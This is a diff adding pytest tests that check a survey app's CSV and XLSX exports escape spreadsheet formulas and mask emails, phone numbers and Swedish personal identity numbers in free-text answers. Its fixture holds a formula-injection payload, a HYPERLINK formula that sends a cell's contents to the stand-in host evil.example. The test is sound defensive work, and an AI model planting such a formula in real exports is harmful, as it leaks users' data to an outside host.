@@ -213,3 +213,65 @@ def test_organisational_impact_hides_groups_under_five(
     assert all(row.managers < 5 for row in impact.rows)
     assert all(mean is None for row in impact.rows for mean in row.means)
     assert {row.participants for row in impact.rows} <= {"<5", 0}
+
+
+FREE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Klicka här")',
+    "@SUM(A1:A9)",
+    "-bra kurs men för kort",
+    "Hör av dig till anna.svensson@molndal.se eller 070-123 45 67 om uppföljningen.",
+    "Mitt personnummer är 19850101-1234, min kollegas 850101-1234 och 8501611234.",
+    "Föreläsaren var mycket bra.",
+]
+
+
+@pytest.fixture
+def free_text(world, no_scope, staff, django_capture_on_commit_callbacks):
+    """Six anonymous answers: some look like formulas, some carry personal data."""
+    survey = open_survey(world, "reaction", "anonymous")
+    tokens = invite(survey, staff[:6], world, django_capture_on_commit_callbacks)
+    for token, text in zip(tokens, FREE_TEXT, strict=True):
+        response_submit(token=token, answers={"relevant": 4, "better": text})
+    return survey
+
+
+def test_export_keeps_free_text_inert_and_masks_personal_data(free_text, client, world):
+    sign_in(client, world["users"]["evaluator"])
+    text = client.get(f"/evaluation/{free_text.pk}/export.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    column = rows[0].index("better")
+    answers = sorted(row[column] for row in rows[1:])
+    assert answers == sorted(
+        [
+            '\'=HYPERLINK("http://evil.example/?"&A2,"Klicka här")',
+            "'@SUM(A1:A9)",
+            "'-bra kurs men för kort",
+            "Hör av dig till [e-postadress] eller [telefonnummer] om uppföljningen.",
+            "Mitt personnummer är [personnummer], min kollegas [personnummer] och [personnummer].",
+            "Föreläsaren var mycket bra.",
+        ]
+    )
+    assert {row[rows[0].index("relevant")] for row in rows[1:]} == {"4.0"}
+
+    content = client.get(f"/evaluation/{free_text.pk}/export.xlsx").content
+    sheet = load_workbook(io.BytesIO(content)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = [row[header.index("better")] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert sorted(cell.value for cell in cells) == answers
+    assert {row[header.index("relevant")].value for row in sheet.iter_rows(min_row=2)} == {4}
+    assert "anna.svensson" not in text
+    for number in ("19850101-1234", "850101-1234", "8501611234", "070-123 45 67"):
+        assert number not in text
+
+
+def test_results_page_masks_personal_data_in_free_text(free_text, client, world):
+    sign_in(client, world["users"]["evaluator"])
+    html = client.get(f"/evaluation/{free_text.pk}/results/").content.decode()
+    assert "Hör av dig till [e-postadress] eller [telefonnummer] om uppföljningen." in html
+    assert "Mitt personnummer är [personnummer], min kollegas [personnummer] och" in html
+    assert "anna.svensson@molndal.se" not in html
+    assert "070-123 45 67" not in html
+    for number in ("19850101-1234", "850101-1234", "8501611234"):
+        assert number not in html
+    assert "Föreläsaren var mycket bra." in html
